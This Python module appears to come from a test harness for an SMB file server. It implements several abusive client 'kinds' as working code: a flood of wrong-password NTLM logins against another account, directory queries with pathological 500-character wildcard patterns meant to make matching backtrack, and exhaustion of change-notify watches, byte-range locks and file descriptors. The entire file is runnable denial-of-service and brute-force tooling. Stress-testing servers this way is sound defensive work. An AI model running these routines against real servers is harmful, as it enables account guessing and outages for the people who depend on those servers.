"""The strangers with an account of their own, and one that tries to guess another account's password. As in kinds.py, a
kind is a function whose argument is a `Stranger` and which does one kind of harm repeatedly.

`prepare` creates their files: a directory of many names, and one of many directories.
"""

import os
import struct
import time
from collections.abc import Sequence
from pathlib import Path

from proving.strangers import smb
from proving.strangers.stranger import Stranger

NAMES, DIRECTORIES = 20_000, 3000
CROWD, DEEP = "crowd", "deep"
# Requests in flight at once: fewer than a client has credits for.
AT_ONCE = 8
GUESSES_AT_ONCE = 32
RANGES, RANGES_IN_REQUEST = 65_000, 1000
QUERY_DIRECTORY, CHANGE_NOTIFY, LOCK = 14, 15, 10
READ_DATA, SHARE_ALL, OPEN, DIRECTORY_FILE = 0x00120089, 7, 1, 1
# MS-SMB2 2.2.26.1
EXCLUSIVE, UNLOCK, FAIL_IMMEDIATELY = 0x2, 0x4, 0x10
# Matches nothing, and makes a matcher that tries every alternative try very many.
PATTERN = ("*a" * 250 + "b").encode("utf-16le")


def prepare(share: Path) -> None:
    """Create the files for the kinds below."""
    crowd = share / CROWD
    crowd.mkdir()
    for number in range(NAMES):
        (crowd / f"{'a' * 60}-{number}").touch()
    for number in range(DIRECTORIES):
        (share / DEEP / str(number % 50) / str(number)).mkdir(parents=True)


def log_on(me: Stranger) -> smb.Client:
    """Open a connection with the stranger's own account."""
    return smb.Client(me.smb, me.source, me.account, me.password_of_account, me.share)


def finish(client: smb.Client, count: int) -> None:
    """Read the answers to `count` requests, with any status."""
    while count:
        header, _ = client.receive()
        count -= struct.unpack_from("<I", header, 8)[0] != smb.PENDING


def open_directory(client: smb.Client, name: str) -> bytes:
    return client.create(name, access=READ_DATA, disposition=OPEN, options=DIRECTORY_FILE)


def smb_guesses(me: Stranger) -> None:
    """Guesses of another account's password, over many connections at once, without reading the answers."""
    held = []
    try:
        while me.goes_on():
            connection = smb.connect(me.smb, me.source)
            held.append(connection)
            number = len(held)
            connection.sendall(smb.message(smb.NEGOTIATE, 0, smb.NEGOTIATE_BODY, credits=16))
            smb.receive(connection)
            connection.sendall(smb.message(smb.SESSION_SETUP, 1, smb.setup_body(smb.NTLM_NEGOTIATE), credits=16))
            header, body = smb.receive(connection)
            at, length = struct.unpack_from("<HH", body, 4)
            session = struct.unpack_from("<Q", header, 40)[0]
            wrong = smb.authenticate(body[at - 64:at - 64 + length], me.user, f"guess {number} {os.urandom(4).hex()}")
            connection.sendall(smb.message(smb.SESSION_SETUP, 2, smb.setup_body(wrong), session, credits=16))
            if len(held) == GUESSES_AT_ONCE:
                time.sleep(0.5)
                for connection in held:
                    connection.close()
                held.clear()
    finally:
        for connection in held:
            connection.close()


def smb_patterns(me: Stranger) -> None:
    """Listings by patterns of 500 characters that match nothing. The answers of every second batch are not read."""
    body = struct.pack("<HBBI16sHHI", 33, 37, 0x10, 0, bytes(16), 96, len(PATTERN), 65536)
    while me.goes_on():
        for waits in True, False:
            client = log_on(me)
            try:
                for _ in range(AT_ONCE):
                    directory = open_directory(client, CROWD)
                    client.begin(QUERY_DIRECTORY, body[:8] + directory + body[24:] + PATTERN)
                if waits:
                    finish(client, AT_ONCE)
            finally:
                client.close()


def smb_watches(me: Stranger) -> None:
    """Watches of everything below the share, as many as a connection may have, and then the connection is closed."""
    while me.goes_on():
        client = log_on(me)
        try:
            for _ in range(4 * AT_ONCE):
                root = open_directory(client, "")
                client.begin(CHANGE_NOTIFY, struct.pack("<HHI16sII", 32, 1, 65536, root, 0x17F, 0))
        finally:
            client.close()


def lock_body(file: bytes, flags: int, starts: Sequence[int]) -> bytes:
    """MS-SMB2 2.2.26"""
    return struct.pack("<HHI16s", 48, len(starts), 0, file) + b"".join(struct.pack("<QQII", at, 1, flags, 0) for at in starts)


def smb_ranges(me: Stranger) -> None:
    """A file with very many locked ranges. One of them is repeatedly unlocked and locked."""
    client = log_on(me)
    try:
        file = client.create(f"ranges-{me.number}")
        for first in range(0, RANGES, RANGES_IN_REQUEST):
            starts = [2 * at for at in range(first, first + RANGES_IN_REQUEST)]
            client.call(LOCK, lock_body(file, EXCLUSIVE | FAIL_IMMEDIATELY, starts))
        while me.goes_on():
            for _ in range(AT_ONCE // 2):
                client.begin(LOCK, lock_body(file, UNLOCK, [RANGES]))
                client.begin(LOCK, lock_body(file, EXCLUSIVE | FAIL_IMMEDIATELY, [RANGES]))
            finish(client, AT_ONCE)
    finally:
        client.close()


def smb_descriptors(me: Stranger) -> None:
    """Files that are opened and never closed: all strangers together open more than the server has descriptors."""
    client = log_on(me)
    try:
        for number in range(3000):
            if not me.goes_on():
                return
            client.create(f"held-{me.number}-{number}")
        while me.goes_on():
            time.sleep(0.1)
    finally:
        client.close()


KINDS = {
    "smb-guesses": smb_guesses,
    "smb-patterns": smb_patterns,
    "smb-watches": smb_watches,
    "smb-ranges": smb_ranges,
    "smb-descriptors": smb_descriptors,
}
